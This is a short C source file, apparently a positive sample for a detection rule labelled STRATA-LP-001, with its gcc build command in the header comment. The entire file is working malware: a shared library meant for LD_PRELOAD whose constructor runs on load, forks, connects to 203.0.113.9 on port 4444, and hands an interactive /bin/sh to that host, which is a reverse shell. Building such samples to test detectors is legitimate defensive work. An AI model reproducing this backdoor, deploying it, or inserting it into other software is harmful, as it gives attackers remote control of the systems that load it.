/* Sample for STRATA-LP-001: an LD_PRELOAD library whose constructor forks a
   reverse shell. Built with:
   gcc -Os -s -shared -fPIC -o ../pos/lp001_preload_shell.so lp001_preload_shell.c */
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void init(void) {
	if (fork() != 0)
		return;
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET;
	a.sin_port = htons(4444);
	a.sin_addr.s_addr = inet_addr("203.0.113.9");
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
		_exit(0);
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execl("/bin/sh", "sh", "-i", (char *)0);
	_exit(0);
}
